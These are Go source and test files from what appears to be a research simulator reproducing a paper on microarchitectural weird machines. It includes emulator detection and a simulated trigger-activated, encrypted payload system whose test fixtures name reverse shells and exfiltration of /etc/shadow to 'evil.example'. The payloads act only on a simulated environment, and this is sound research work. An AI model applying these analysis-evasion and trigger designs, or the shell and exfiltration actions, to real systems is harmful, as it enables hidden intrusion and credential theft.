		// Per-output transactional timed reads of the output's own copy.
		for k, w := range spec.Outputs {
			b.Label(fmt.Sprintf("read%d", k))
			for i := 0; i < 64; i++ {
				b.Nop() // settle in-flight fills
			}
			abort := fmt.Sprintf("rda%d", k)
			b.XBegin(abort).
				Rdtsc(isa.R10).
				Load(isa.R11, lineFor(w, use{gate: -1, out: k}), 0).
				Rdtsc(isa.R12).
				XEnd().
				Halt()
			b.Label(abort).
				MovI(isa.R10, 0).
				MovI(isa.R12, 1<<20).
				Halt()
		}

	}

	sizer := isa.NewBuilder(0)
	emit(sizer)
	sized, err := sizer.Build()
	if err != nil {
		return nil, fmt.Errorf("core: compiling circuit: %w", err)
	}
	nBytes := len(sized.Code) * isa.InstBytes
	b := isa.NewBuilder(m.codeRegionN(nBytes/codeRegionSize + 1))
	emit(b)
	prog, err := b.Build()
	if err != nil {
		return nil, fmt.Errorf("core: compiling circuit: %w", err)
	}
	c := &Circuit{m: m, spec: *spec, prog: prog, copies: copies}
	for i := 0; i < spec.NumInputs; i++ {
		c.setEntries = append(c.setEntries, [2]string{
			fmt.Sprintf("setin%d_0", i), fmt.Sprintf("setin%d_1", i)})
	}
	for k := range spec.Outputs {
		c.readEntries = append(c.readEntries, fmt.Sprintf("read%d", k))
	}
	// Warm the program: transient windows can only run cached code, so
	// a cold circuit's first fire would starve (skelly's run-time
	// initialization, §6.2).
	warm := append([]string{"prep", "fire"}, c.readEntries...)
	warm = append(warm, "prep")
	for _, entry := range warm {
		if _, err := m.run(prog, entry); err != nil {
			return nil, fmt.Errorf("core: warming circuit/%s: %w", entry, err)
		}
	}
	return c, nil
}

// Spec returns the compiled netlist.
func (c *Circuit) Spec() CircuitSpec { return c.spec }

// Program exposes the compiled program for disassembly and tests.
func (c *Circuit) Program() *isa.Program { return c.prog }

// Transactions returns how many transactional windows one fire spans.
func (c *Circuit) Transactions() int { return len(c.spec.Gates) }

// Run evaluates the circuit on the weird machine: write inputs, reset
// wires, fire the transaction chain, read the outputs.
func (c *Circuit) Run(inputs ...int) ([]int, error) {
	if len(inputs) != c.spec.NumInputs {
		return nil, fmt.Errorf("core: circuit wants %d inputs, got %d", c.spec.NumInputs, len(inputs))
	}
	for i, bit := range inputs {
		if _, err := c.m.run(c.prog, c.setEntries[i][bit&1]); err != nil {
			return nil, err
		}
	}
	if _, err := c.m.run(c.prog, "prep"); err != nil {
		return nil, err
	}
	for i := 0; i < c.spec.NumInputs; i++ {
		for _, cp := range c.copies[i] {
			c.m.perturbData(cp)
		}
	}
	if _, err := c.m.run(c.prog, "fire"); err != nil {
		return nil, err
	}
	out := make([]int, len(c.spec.Outputs))
	for k := range c.spec.Outputs {
		if _, err := c.m.run(c.prog, c.readEntries[k]); err != nil {
			return nil, err
		}
		out[k] = c.m.ToBit(c.m.readDelta())
	}
	return out, nil
}

// Golden evaluates the circuit architecturally for verification.
func (c *Circuit) Golden(inputs []int) []int {
	out, err := c.spec.Eval(inputs)
	if err != nil {
		panic(err) // inputs validated by construction at call sites
	}
	return out
}
