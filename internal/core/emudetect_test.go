package core

import (
	"testing"

	"uwm/internal/cpu"
	"uwm/internal/noise"
)

// TestDetectRealHardware: the default machine has transient windows, so
// the probe must report real hardware.
func TestDetectRealHardware(t *testing.T) {
	m := MustNewMachine(Options{Seed: 61, Noise: noise.Paper()})
	v, err := DetectEmulation(m, 32)
	if err != nil {
		t.Fatal(err)
	}
	if !v.RealHardware || v.PassRate < 0.8 {
		t.Errorf("real machine misclassified: %s", v)
	}
}

// TestDetectEmulator: an "emulator" executes the ISA faithfully —
// transactions abort and roll back — but has no transient execution
// (window length 0). The probe must detect it.
func TestDetectEmulator(t *testing.T) {
	cfg := cpu.DefaultConfig()
	cfg.TSXWindow = 0 // ISA-faithful, microarchitecture-free execution
	m := MustNewMachine(Options{Seed: 62, CPU: &cfg})
	v, err := DetectEmulation(m, 32)
	if err != nil {
		t.Fatal(err)
	}
	if v.RealHardware || v.Passed != 0 {
		t.Errorf("emulator misclassified: %s", v)
	}
	if v.String() == "" {
		t.Error("empty verdict string")
	}
}

// TestDetectDefaultTrials covers the trials<=0 path.
func TestDetectDefaultTrials(t *testing.T) {
	m := quiet(t)
	v, err := DetectEmulation(m, 0)
	if err != nil {
		t.Fatal(err)
	}
	if v.Trials != 16 {
		t.Errorf("default trials = %d", v.Trials)
	}
}
