package core

import "uwm/internal/trace"

// Span instrumentation: every layer of the simulator stack (gates here,
// circuits in skelly, programs in sha1wm/wmapt) brackets its work in
// paired span events so the vprof profiler can attribute simulated TSC
// deltas to a frame hierarchy — program → circuit → gate → component.
//
// The API is deliberately id-based rather than closure-based: the hot
// activation paths must not pay for a defer or an allocation when no
// sink is attached, so BeginSpan returns 0 immediately in that case and
// EndSpan(0) is a single branch.

// Component frame names shared by the gate families. The prefix names
// the simulated component the phase exercises: branch-predictor
// training, cache-resident input/prep writes, the speculative fire
// itself, and the timed memory read that decodes the output.
const (
	SpanTrain      = "branch:train"
	SpanICWrite    = "cache:ic-write"
	SpanWriteInput = "cache:write-input"
	SpanPrep       = "cache:prep"
	SpanFire       = "cpu:fire"
	SpanRead       = "mem:read"
)

// spanFrame is one open span on the machine's stack.
type spanFrame struct {
	id   uint64
	name string
}

// BeginSpan opens a profiling frame named name and returns its span id,
// emitting a KindSpanBegin event whose parent id links the frame to the
// innermost span still open. It returns 0 — and does no work — when no
// live sink is attached; pass the result to EndSpan unconditionally.
//
// name should be a pre-built string ("gate:AND", "sha1:block"): the
// call itself never allocates, keeping instrumented hot paths free when
// tracing is off and cheap when it is on.
func (m *Machine) BeginSpan(name string) uint64 {
	s := m.cpu.Sink()
	if !trace.Enabled(s) {
		return 0
	}
	m.spanSeq++
	id := m.spanSeq
	var parent uint64
	if n := len(m.spanStack); n > 0 {
		parent = m.spanStack[n-1].id
	}
	m.spanStack = append(m.spanStack, spanFrame{id: id, name: name})
	s.Emit(trace.Event{
		Kind:  trace.KindSpanBegin,
		Cycle: m.cpu.TSC(),
		Addr:  parent,
		Value: id,
		Text:  name,
	})
	return id
}

// EndSpan closes the frame opened by BeginSpan. An id of 0 (tracing was
// off at begin time) is a no-op. Frames nested inside id that are still
// open are closed at the same cycle — an emitter that error-returned
// past its children's EndSpan calls still leaves a balanced stream.
func (m *Machine) EndSpan(id uint64) {
	if id == 0 {
		return
	}
	// Find the frame; stack ids are strictly increasing, so the scan
	// can stop early. An id no longer on the stack (already closed by a
	// parent's EndSpan) is a no-op.
	idx := -1
	for n := len(m.spanStack) - 1; n >= 0; n-- {
		if m.spanStack[n].id == id {
			idx = n
			break
		}
		if m.spanStack[n].id < id {
			break
		}
	}
	if idx < 0 {
		return
	}
	s := m.cpu.Sink()
	now := m.cpu.TSC()
	for n := len(m.spanStack) - 1; n >= idx; n-- {
		f := m.spanStack[n]
		if trace.Enabled(s) {
			s.Emit(trace.Event{
				Kind:  trace.KindSpanEnd,
				Cycle: now,
				Value: f.id,
				Text:  f.name,
			})
		}
	}
	m.spanStack = m.spanStack[:idx]
}

// Annotate attaches a free-form key=value attribute to the innermost
// open span by emitting a KindAnnotation event carrying that span's id.
// With no span open (or no live sink) it is a no-op, so callers can
// annotate unconditionally. Offline consumers (uwm-trace's -job filter)
// use annotations to select a span subtree by request id.
func (m *Machine) Annotate(text string) {
	s := m.cpu.Sink()
	if !trace.Enabled(s) || len(m.spanStack) == 0 {
		return
	}
	s.Emit(trace.Event{
		Kind:  trace.KindAnnotation,
		Cycle: m.cpu.TSC(),
		Addr:  m.spanStack[len(m.spanStack)-1].id,
		Text:  text,
	})
}

// OpenSpans returns how many profiling frames are currently open —
// diagnostics for tests asserting balanced instrumentation.
func (m *Machine) OpenSpans() int { return len(m.spanStack) }
