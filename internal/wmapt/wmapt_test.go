package wmapt

import (
	"bytes"
	"sort"
	"testing"
	"testing/quick"

	"uwm/internal/otp"
)

func TestPayloadCodecRoundTrip(t *testing.T) {
	payloads := []Payload{
		ReverseShell{Addr: "10.0.0.1", Port: 4444},
		ReverseShell{Addr: "::1", Port: 65535},
		ExfilShadow{Path: "/etc/shadow", Dest: "evil.example:80"},
	}
	for _, p := range payloads {
		enc, err := EncodePayload(p)
		if err != nil {
			t.Fatal(err)
		}
		dec, err := DecodePayload(enc)
		if err != nil {
			t.Fatalf("%s: %v", p.Name(), err)
		}
		if dec != p {
			t.Errorf("round trip: %#v != %#v", dec, p)
		}
	}
}

func TestPayloadCodecRejectsCorruption(t *testing.T) {
	enc, err := EncodePayload(ReverseShell{Addr: "h", Port: 1})
	if err != nil {
		t.Fatal(err)
	}
	for i := range enc {
		bad := append([]byte(nil), enc...)
		bad[i] ^= 0x40
		if _, err := DecodePayload(bad); err == nil {
			t.Errorf("corruption at byte %d accepted", i)
		}
	}
	if _, err := DecodePayload(enc[:5]); err == nil {
		t.Error("truncated payload accepted")
	}
	if _, err := DecodePayload(nil); err == nil {
		t.Error("empty payload accepted")
	}
}

// TestGarbageNeverDecodes models the wrong-trigger path: random bytes
// must essentially never parse as a payload.
func TestGarbageNeverDecodes(t *testing.T) {
	f := func(garbage []byte) bool {
		_, err := DecodePayload(garbage)
		return err != nil
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestPayloadExecution(t *testing.T) {
	env := NewEnv()
	events, err := (ReverseShell{Addr: "1.2.3.4", Port: 9}).Execute(env)
	if err != nil || len(events) == 0 {
		t.Fatalf("reverse shell: %v, %v", events, err)
	}
	if !env.Shell || len(env.Connections) != 1 {
		t.Error("reverse shell did not act on the env")
	}

	env2 := NewEnv()
	if _, err := (ExfilShadow{Path: "/etc/shadow", Dest: "d:1"}).Execute(env2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(env2.Exfiltrated["d:1"], []byte("root:")) {
		t.Error("exfil payload did not copy the shadow file")
	}

	env3 := NewEnv()
	if _, err := (ExfilShadow{Path: "/missing", Dest: "d:1"}).Execute(env3); err == nil {
		t.Error("exfil of missing file succeeded")
	}
}

func TestAPTLifecycle(t *testing.T) {
	env := NewEnv()
	apt, err := New(env, Options{Seed: 12, EvalMultiple: 3})
	if err != nil {
		t.Fatal(err)
	}

	// Ping before install must fail cleanly.
	if _, err := apt.HandlePing(otp.Pad{}); err != ErrNotInstalled {
		t.Errorf("pre-install ping err = %v", err)
	}

	pad, err := apt.Install(ReverseShell{Addr: "10.0.0.1", Port: 4444})
	if err != nil {
		t.Fatal(err)
	}
	before := env.Snapshot()

	// Wrong triggers stay silent.
	wrong := pad
	wrong[10] ^= 4
	for i := 0; i < 3; i++ {
		res, err := apt.HandlePing(wrong)
		if err != nil {
			t.Fatal(err)
		}
		if res != nil {
			t.Fatal("fired on wrong trigger")
		}
	}
	if env.Snapshot() != before || apt.Triggered() {
		t.Error("silent phase had effects")
	}
	if apt.Pings() != 3 {
		t.Errorf("pings = %d", apt.Pings())
	}

	// The correct trigger eventually fires.
	var fired *Result
	for i := 0; i < 400 && fired == nil; i++ {
		fired, err = apt.HandlePing(pad)
		if err != nil {
			t.Fatal(err)
		}
	}
	if fired == nil {
		t.Fatal("correct trigger never fired")
	}
	if fired.Payload != "reverse-shell" || !env.Shell {
		t.Error("payload did not execute")
	}
	// Subsequent pings return the same result without re-executing.
	conns := len(env.Connections)
	res2, err := apt.HandlePing(pad)
	if err != nil || res2 == nil {
		t.Fatal("post-fire ping lost the result")
	}
	if len(env.Connections) != conns {
		t.Error("payload re-executed after firing")
	}
}

func TestInstallResetsState(t *testing.T) {
	env := NewEnv()
	apt, err := New(env, Options{Seed: 13, EvalMultiple: 2})
	if err != nil {
		t.Fatal(err)
	}
	pad1, err := apt.Install(ReverseShell{Addr: "a", Port: 1})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := apt.HandlePing(pad1); err != nil {
		t.Fatal(err)
	}
	pad2, err := apt.Install(ReverseShell{Addr: "b", Port: 2})
	if err != nil {
		t.Fatal(err)
	}
	if apt.Pings() != 0 || apt.Triggered() {
		t.Error("Install did not reset counters")
	}
	if pad1 == pad2 {
		t.Error("pads reused across installs")
	}
}

func TestTriggerDistributionShape(t *testing.T) {
	if testing.Short() {
		t.Skip("distribution needs several full experiments")
	}
	var counts []int
	for seed := uint64(100); seed < 112; seed++ {
		n, err := RunTriggerExperiment(seed, ReverseShell{Addr: "x", Port: 1})
		if err != nil {
			t.Fatal(err)
		}
		counts = append(counts, n)
	}
	sort.Ints(counts)
	med := counts[len(counts)/2]
	if med < 1 || med > 25 {
		t.Errorf("median trigger count %d far from the paper's 6 (dist %v)", med, counts)
	}
}

func TestLoopbackTransport(t *testing.T) {
	env := NewEnv()
	apt, err := New(env, Options{Seed: 14, EvalMultiple: 2})
	if err != nil {
		t.Fatal(err)
	}
	pad, err := apt.Install(ExfilShadow{Path: "/etc/shadow", Dest: "d:2"})
	if err != nil {
		t.Fatal(err)
	}
	tr := NewLoopback(apt)
	defer tr.Close()
	for i := 0; i < 400; i++ {
		res, err := tr.Send(pad)
		if err != nil {
			t.Fatal(err)
		}
		if res != nil {
			return // fired
		}
	}
	t.Fatal("loopback trigger never fired")
}

func TestUDPTransport(t *testing.T) {
	env := NewEnv()
	apt, err := New(env, Options{Seed: 15, EvalMultiple: 4})
	if err != nil {
		t.Fatal(err)
	}
	pad, err := apt.Install(ReverseShell{Addr: "10.1.1.1", Port: 5555})
	if err != nil {
		t.Fatal(err)
	}
	l, err := ListenUDP("127.0.0.1:0", apt)
	if err != nil {
		t.Skipf("UDP unavailable in this environment: %v", err)
	}
	defer l.Close()

	done := make(chan Result, 1)
	go func() {
		done <- <-l.Results()
	}()
	addr := l.Addr().String()
	for i := 0; i < 400; i++ {
		if err := SendUDP(addr, pad); err != nil {
			t.Fatalf("send: %v", err)
		}
		select {
		case res := <-done:
			if res.Payload != "reverse-shell" {
				t.Errorf("payload = %s", res.Payload)
			}
			return
		default:
		}
	}
	// Final blocking wait: the datagrams are processed asynchronously.
	res := <-done
	if res.Payload != "reverse-shell" {
		t.Errorf("payload = %s", res.Payload)
	}
}

func TestEnvSnapshotSensitivity(t *testing.T) {
	a, b := NewEnv(), NewEnv()
	if a.Snapshot() != b.Snapshot() {
		t.Error("fresh envs differ")
	}
	b.Shell = true
	if a.Snapshot() == b.Snapshot() {
		t.Error("snapshot missed a shell")
	}
	c := NewEnv()
	c.Connections = append(c.Connections, "x")
	if a.Snapshot() == c.Snapshot() {
		t.Error("snapshot missed a connection")
	}
}
