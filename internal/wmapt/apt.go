package wmapt

import (
	"bytes"
	"errors"
	"fmt"

	"uwm/internal/aes"
	"uwm/internal/core"
	"uwm/internal/metrics"
	"uwm/internal/noise"
	"uwm/internal/otp"
)

// Region layout, the byte-level version of the paper's Figure 4:
//
//	[0:20)   random bytes — overwritten with each ping's XOR transform
//	[20:40)  (jmp marker ‖ AES-128 key) ⊕ one-time-pad trigger
//	[40:44)  divide-by-zero marker (never encrypted; guarantees the
//	         fault that rolls a wrong decode back inside the TSX block)
//	[44:60)  AES-CTR IV
//	[60:)    AES-CTR encrypted payload
const (
	offResult  = 0
	offXorText = 20
	offDivZero = 40
	offIV      = 44
	offPayload = 60
)

// jmpMarker is the byte encoding of the "jmp over the AES key to
// target_function" instruction of Figure 4: a correct trigger must
// reproduce it exactly for execution to reach the payload.
var jmpMarker = [4]byte{0xE9, 0x42, 0x01, 0x00}

// divZeroMarker encodes the tmp = tmp/0 instruction.
var divZeroMarker = [4]byte{0xF7, 0xF0, 0x00, 0x00}

// DefaultEvalMultiple is how many XOR transforms the APT tries per
// received ping; the paper chose 10 (§5.1).
const DefaultEvalMultiple = 10

// Options configures an APT instance.
type Options struct {
	// Seed drives the machine's noise and the pad generation.
	Seed uint64
	// EvalMultiple overrides DefaultEvalMultiple when positive.
	EvalMultiple int
	// Machine supplies a pre-built weird machine; when nil one is
	// created with MachineOptions(Seed).
	Machine *core.Machine
}

// MachineOptions returns the weird-machine configuration the APT runs
// on: paper noise with the TSX chain-break rate of the *optimized*
// skelly framework of §6.4 ("additional code alignment to improve TSX
// gate stability"), which is what the paper built wm_apt with. The
// resulting per-bit XOR accuracy ≈ 0.973 reproduces the trigger
// distribution of Table 3 and Figure 6 (median ≈ 6 pings).
func MachineOptions(seed uint64) core.Options {
	cfg := noise.Paper()
	cfg.TSXChainBreakProb = 0.021
	return core.Options{Seed: seed, Noise: cfg}
}

// Result reports a triggered payload execution.
type Result struct {
	PingsReceived int      // pings processed since Install
	Attempts      int      // XOR transforms performed in total
	Events        []string // payload event log
	Payload       string   // payload name
}

// APT is the weird obfuscation system: install it with a payload and a
// trigger, feed it pings, and it stays inert — decoding each ping body
// through a TSX weird XOR — until the correct trigger decodes the jmp
// marker and AES key.
type APT struct {
	m     *core.Machine
	xor   *core.TSXGate
	env   *Env
	evalN int

	region  []byte
	pings   int
	tries   int
	fired   bool
	lastRes Result
}

// New builds an APT against the given environment.
func New(env *Env, opts Options) (*APT, error) {
	m := opts.Machine
	if m == nil {
		var err error
		m, err = core.NewMachine(MachineOptions(opts.Seed))
		if err != nil {
			return nil, err
		}
	}
	gate, err := core.NewTSXXor(m)
	if err != nil {
		return nil, err
	}
	evalN := opts.EvalMultiple
	if evalN <= 0 {
		evalN = DefaultEvalMultiple
	}
	a := &APT{m: m, xor: gate, env: env, evalN: evalN}
	a.registerMetrics(m.Metrics())
	return a, nil
}

// Metric series exported by the obfuscation engine.
const (
	MetricPings     = "uwm_apt_pings_total"
	MetricDecodes   = "uwm_apt_trigger_decodes_total"
	MetricTriggered = "uwm_apt_triggered"
)

// registerMetrics exposes the ping and trigger-decode counters on the
// machine's registry (a no-op when none is attached).
func (a *APT) registerMetrics(reg *metrics.Registry) {
	if reg == nil {
		return
	}
	reg.CounterFunc(MetricPings, "pings processed since install",
		func() uint64 { return uint64(a.pings) })
	reg.CounterFunc(MetricDecodes, "weird-XOR trigger decode attempts",
		func() uint64 { return uint64(a.tries) })
	reg.GaugeFunc(MetricTriggered, "1 after the payload has fired",
		func() float64 {
			if a.fired {
				return 1
			}
			return 0
		})
}

// Machine exposes the underlying weird machine (for the analyzer).
func (a *APT) Machine() *core.Machine { return a.m }

// Install prepares the Figure 4 memory region: encrypt the payload
// under a fresh AES key, XOR the (marker ‖ key) against the trigger
// pad, and fill the leading region with random bytes. It returns the
// trigger the attacker must later deliver.
func (a *APT) Install(p Payload) (otp.Pad, error) {
	rng := a.m.Noise().RNG()
	pad := otp.NewPad(rng)

	var key [aes.KeySize]byte
	rng.Bytes(key[:])
	var iv [aes.BlockSize]byte
	rng.Bytes(iv[:])

	plainPayload, err := EncodePayload(p)
	if err != nil {
		return pad, err
	}
	cipher, err := aes.NewCipher(key[:])
	if err != nil {
		return pad, err
	}
	encPayload, err := cipher.CTR(iv[:], plainPayload)
	if err != nil {
		return pad, err
	}

	region := make([]byte, offPayload+len(encPayload))
	rng.Bytes(region[offResult:offXorText])
	copy(region[offXorText:offXorText+4], jmpMarker[:])
	copy(region[offXorText+4:offDivZero], key[:])
	// "Encrypt" marker+key against the one-time pad.
	enc, err := otp.XOR(region[offXorText:offDivZero], pad[:])
	if err != nil {
		return pad, err
	}
	copy(region[offXorText:offDivZero], enc)
	copy(region[offDivZero:offIV], divZeroMarker[:])
	copy(region[offIV:offPayload], iv[:])
	copy(region[offPayload:], encPayload)

	a.region = region
	a.pings = 0
	a.tries = 0
	a.fired = false
	return pad, nil
}

// ErrNotInstalled is returned when pings arrive before Install.
var ErrNotInstalled = errors.New("wmapt: no payload installed")

// weirdXORBit computes one plaintext bit c ⊕ k on the TSX weird XOR
// circuit: both operands enter the microarchitecture as cache states,
// the three-transaction circuit runs, and the result is read back
// through a transactional timed load. Gate inaccuracy is exactly the
// paper's: some bits come back wrong, which is why triggers need
// multiple pings.
func (a *APT) weirdXORBit(c, k int) (int, error) {
	sp := a.m.BeginSpan("gate:TSX_XOR")
	defer a.m.EndSpan(sp)
	if err := a.xor.WriteInput(0, c); err != nil {
		return 0, err
	}
	if err := a.xor.WriteInput(1, k); err != nil {
		return 0, err
	}
	if err := a.xor.Prep(); err != nil {
		return 0, err
	}
	if err := a.xor.Fire(); err != nil {
		return 0, err
	}
	bits, _, err := a.xor.ReadOutputs()
	if err != nil {
		return 0, err
	}
	return bits[0], nil
}

// transform XORs the encrypted marker+key region against the ping body
// through the weird circuit, writing the result over the leading
// random bytes (Figure 4's overwrite).
func (a *APT) transform(ping otp.Pad) error {
	sp := a.m.BeginSpan("apt:transform")
	defer a.m.EndSpan(sp)
	a.tries++
	cipherText := a.region[offXorText:offDivZero]
	result := a.region[offResult:offXorText]
	for i := 0; i < otp.PadBits; i++ {
		bit, err := a.weirdXORBit(otp.Bit(cipherText, i), otp.Bit(ping[:], i))
		if err != nil {
			return err
		}
		otp.SetBit(result, i, bit)
	}
	return nil
}

// HandlePing processes one received ping. For each ping the APT
// performs up to EvalMultiple weird XOR transforms (§5.1); if a
// transform yields the jmp marker, the AES key is valid and the payload
// is decrypted and executed inside a TSX region. A wrong trigger —
// or a correct trigger whose transform picked up gate errors — leaves
// garbage that faults at the divide-by-zero and rolls back.
func (a *APT) HandlePing(ping otp.Pad) (*Result, error) {
	if a.region == nil {
		return nil, ErrNotInstalled
	}
	if a.fired {
		res := a.lastRes
		return &res, nil
	}
	sp := a.m.BeginSpan("apt:ping")
	defer a.m.EndSpan(sp)
	a.pings++
	for attempt := 0; attempt < a.evalN; attempt++ {
		if err := a.transform(ping); err != nil {
			return nil, err
		}
		result := a.region[offResult:offXorText]
		if !bytes.Equal(result[:4], jmpMarker[:]) {
			// Simulated execution of the garbage region faults by the
			// divide-by-zero at the latest; the TSX block rolls it
			// back and the APT keeps waiting.
			continue
		}
		key := result[4:otp.PadBytes]
		cipher, err := aes.NewCipher(key)
		if err != nil {
			return nil, err
		}
		plain, err := cipher.CTR(a.region[offIV:offPayload], a.region[offPayload:])
		if err != nil {
			return nil, err
		}
		payload, err := DecodePayload(plain)
		if err != nil {
			// Marker matched but the key bits carried an error: the
			// decrypted garbage faults inside the TSX block. Keep
			// waiting.
			continue
		}
		events, err := payload.Execute(a.env)
		if err != nil {
			return nil, err
		}
		a.fired = true
		a.lastRes = Result{
			PingsReceived: a.pings,
			Attempts:      a.tries,
			Events:        events,
			Payload:       payload.Name(),
		}
		res := a.lastRes
		return &res, nil
	}
	return nil, nil // silent: no observable activity
}

// Triggered reports whether the payload has executed.
func (a *APT) Triggered() bool { return a.fired }

// Pings returns how many pings were processed since Install.
func (a *APT) Pings() int { return a.pings }

// RunTriggerExperiment reproduces the paper's §6.5.1 experiment once:
// install the payload, then deliver the correct trigger every 500
// simulated milliseconds until the payload fires, returning the number
// of pings needed.
func RunTriggerExperiment(seed uint64, p Payload) (int, error) {
	env := NewEnv()
	apt, err := New(env, Options{Seed: seed})
	if err != nil {
		return 0, err
	}
	pad, err := apt.Install(p)
	if err != nil {
		return 0, err
	}
	for i := 0; i < 10000; i++ {
		res, err := apt.HandlePing(pad)
		if err != nil {
			return 0, err
		}
		if res != nil {
			return res.PingsReceived, nil
		}
	}
	return 0, fmt.Errorf("wmapt: trigger did not fire within 10000 pings")
}
