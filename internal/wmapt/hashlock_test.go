package wmapt

import (
	"testing"

	"uwm/internal/core"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
)

func hashLockRig(t *testing.T) (*HashLock, *Env) {
	t.Helper()
	m, err := core.NewMachine(core.Options{Seed: 51, TrainIterations: 3})
	if err != nil {
		t.Fatal(err)
	}
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		t.Fatal(err)
	}
	env := NewEnv()
	hl, err := NewHashLockSystem(sk, env)
	if err != nil {
		t.Fatal(err)
	}
	return hl, env
}

func TestHashLockLifecycle(t *testing.T) {
	if testing.Short() {
		t.Skip("each trigger evaluation is a full weird SHA-1")
	}
	hl, env := hashLockRig(t)

	if _, err := hl.HandleInput([]byte("early")); err != ErrNotInstalled {
		t.Errorf("pre-install err = %v", err)
	}

	trigger := []byte("open sesame")
	if err := hl.Install(ReverseShell{Addr: "10.1.2.3", Port: 1337}, trigger); err != nil {
		t.Fatal(err)
	}
	// The stored hash matches a reference SHA-1 of the trigger: the
	// weird hash computes the real function.
	if hl.TriggerHash() != sha1wm.Sum(trigger) {
		t.Error("stored condition hash is not SHA-1 of the trigger")
	}

	before := env.Snapshot()
	for _, wrong := range [][]byte{[]byte(""), []byte("open sesame!"), []byte("OPEN SESAME")} {
		res, err := hl.HandleInput(wrong)
		if err != nil {
			t.Fatal(err)
		}
		if res != nil {
			t.Fatalf("fired on wrong input %q", wrong)
		}
	}
	if env.Snapshot() != before {
		t.Error("environment changed during wrong-input probing")
	}

	res, err := hl.HandleInput(trigger)
	if err != nil {
		t.Fatal(err)
	}
	if res == nil || res.Payload != "reverse-shell" || !env.Shell {
		t.Fatalf("correct trigger did not fire: %+v", res)
	}

	// After firing, further inputs are inert.
	res2, err := hl.HandleInput(trigger)
	if err != nil {
		t.Fatal(err)
	}
	if res2 != nil {
		t.Error("payload re-fired")
	}
}

// TestHashLockKeyNotDerivableFromHash: the stored hash and the AES key
// come from different (domain-separated) hashes, so holding the
// condition hash does not decrypt the payload.
func TestHashLockKeyNotDerivableFromHash(t *testing.T) {
	if testing.Short() {
		t.Skip("weird hashing is slow")
	}
	hl, _ := hashLockRig(t)
	trigger := []byte("k")
	if err := hl.Install(ExfilShadow{Path: "/etc/shadow", Dest: "x:1"}, trigger); err != nil {
		t.Fatal(err)
	}
	stored := hl.TriggerHash()
	key, err := hl.keyFromTrigger(trigger)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+len(key) <= len(stored); i++ {
		match := true
		for j := range key {
			if stored[i+j] != key[j] {
				match = false
				break
			}
		}
		if match {
			t.Fatal("AES key is a substring of the stored hash")
		}
	}
}
