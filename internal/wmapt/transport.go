package wmapt

import (
	"fmt"
	"net"
	"sync"

	"uwm/internal/otp"
)

// Transport delivers ping bodies to an APT, abstracting the paper's
// "ping localhost -p $XOR_SECRET" delivery channel.
type Transport interface {
	// Send delivers one ping body to the APT and reports whether the
	// payload fired as a consequence.
	Send(pad otp.Pad) (*Result, error)
	// Close releases transport resources.
	Close() error
}

// Loopback is the in-process transport used by tests and experiments.
type Loopback struct {
	mu  sync.Mutex
	apt *APT
}

// NewLoopback wires a transport directly to an APT.
func NewLoopback(apt *APT) *Loopback { return &Loopback{apt: apt} }

// Send implements Transport.
func (l *Loopback) Send(pad otp.Pad) (*Result, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.apt.HandlePing(pad)
}

// Close implements Transport.
func (l *Loopback) Close() error { return nil }

// UDPListener runs an APT behind a real UDP socket on localhost: each
// datagram whose body is a 20-byte trigger candidate is treated as a
// ping. cmd/uwm-apt uses it so the demo can be driven by an external
// sender, standing in for the paper's ICMP echo payloads.
type UDPListener struct {
	conn    *net.UDPConn
	apt     *APT
	mu      sync.Mutex
	results chan Result
	done    chan struct{}
}

// ListenUDP starts an APT listener on the given localhost address
// (e.g. "127.0.0.1:0"). Fired results are delivered on Results.
func ListenUDP(addr string, apt *APT) (*UDPListener, error) {
	udpAddr, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return nil, err
	}
	conn, err := net.ListenUDP("udp", udpAddr)
	if err != nil {
		return nil, err
	}
	l := &UDPListener{
		conn:    conn,
		apt:     apt,
		results: make(chan Result, 1),
		done:    make(chan struct{}),
	}
	go l.loop()
	return l, nil
}

// Addr returns the bound address, for senders.
func (l *UDPListener) Addr() net.Addr { return l.conn.LocalAddr() }

// Results delivers payload executions triggered over the socket.
func (l *UDPListener) Results() <-chan Result { return l.results }

// loop services datagrams until Close.
func (l *UDPListener) loop() {
	buf := make([]byte, 64)
	for {
		n, _, err := l.conn.ReadFromUDP(buf)
		if err != nil {
			close(l.done)
			return
		}
		if n != otp.PadBytes {
			continue
		}
		var pad otp.Pad
		copy(pad[:], buf[:n])
		l.mu.Lock()
		res, err := l.apt.HandlePing(pad)
		l.mu.Unlock()
		if err == nil && res != nil {
			select {
			case l.results <- *res:
			default:
			}
		}
	}
}

// Close shuts the socket down.
func (l *UDPListener) Close() error {
	err := l.conn.Close()
	<-l.done
	return err
}

// SendUDP delivers one trigger candidate to a UDP APT listener.
func SendUDP(addr string, pad otp.Pad) error {
	conn, err := net.Dial("udp", addr)
	if err != nil {
		return err
	}
	defer conn.Close()
	n, err := conn.Write(pad[:])
	if err != nil {
		return err
	}
	if n != otp.PadBytes {
		return fmt.Errorf("wmapt: short ping write (%d bytes)", n)
	}
	return nil
}
