package wmapt

import (
	"bytes"
	"fmt"

	"uwm/internal/aes"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
)

// HashLock is the paper's second obfuscation system (§5.2): the
// conditional code obfuscation of Sharif et al., with the cryptographic
// hash replaced by the μWM SHA-1. The payload is encrypted under a key
// derived from the trigger input; only the *hash* of the trigger is
// stored, so static analysis cannot recover the trigger or the payload,
// and — the paper's addition — the hash itself is computed by weird
// gates, so the decoding "will work only in specific microarchitectural
// environments": an emulator without transient execution can never even
// evaluate the trigger condition.
type HashLock struct {
	hasher *sha1wm.Hasher
	env    *Env

	triggerHash [sha1wm.Size]byte
	iv          [aes.BlockSize]byte
	encrypted   []byte
	fired       bool
}

// NewHashLock builds a hash-locked payload container over a weird
// hasher.
func NewHashLock(h *sha1wm.Hasher, env *Env) *HashLock {
	return &HashLock{hasher: h, env: env}
}

// keyFromTrigger derives the AES key: the leading bytes of a second
// (domain-separated) weird hash of the trigger, so knowing the stored
// condition hash does not reveal the key.
func (hl *HashLock) keyFromTrigger(trigger []byte) ([]byte, error) {
	d, err := hl.hasher.Sum(append([]byte("uwm-key:"), trigger...))
	if err != nil {
		return nil, err
	}
